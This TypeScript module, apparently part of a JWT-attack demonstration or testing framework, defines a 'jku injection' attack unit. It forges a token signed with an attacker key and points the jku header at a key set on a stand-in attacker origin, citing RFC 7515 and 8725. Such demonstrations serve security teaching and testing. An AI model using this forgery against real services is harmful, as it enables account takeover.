/** The address of the attacker’s own key set in the header. Not: the key itself (jwk-injection.ts). */
import { rfc } from '#sources/sources';
import { sign, withParameters } from '#jose/forgery/header';
import { ATTACKER_PUBLIC_JWK } from '../attacker/attacker-key';
import { ATTACKER_ORIGIN } from '../origins';
import { forgerHas, noTokenToForge, present } from '../attacker/forged-token';
import { LIBRARIES_TAKE_NO_KEY, NAIVE_VERIFIER_ASSUMED } from '../attacker/assumed';
import type { AttackUnit } from '../attacker/attack';

export default {
  order: 45,
  group: 'forged tokens',
  label: 'Injected jku',
  says: 'The attacker signs with their own key. The header tells the verifier to fetch that key from the attacker’s server.',
  grants: ['an account'],
  sources: [rfc(7515, '4.1.2'), rfc(8725, '3.10')],
  scene: ['log-in', 'read-orders'],
  assumes: [NAIVE_VERIFIER_ASSUMED, LIBRARIES_TAKE_NO_KEY],
  presupposes: { alg: 'EdDSA' },
  inapplicable: noTokenToForge,
  play: async (hands) => {
    const has = await forgerHas(hands);
    if (!has) return;

    const { alg, kid } = ATTACKER_PUBLIC_JWK;
    const header = withParameters(has.header, { alg, kid, jku: `${ATTACKER_ORIGIN}/jwks.json` });
    await present(hands, [{ compact: await sign(header, has.payload, alg, has.own.privateKey) }]);
  },
} satisfies AttackUnit;
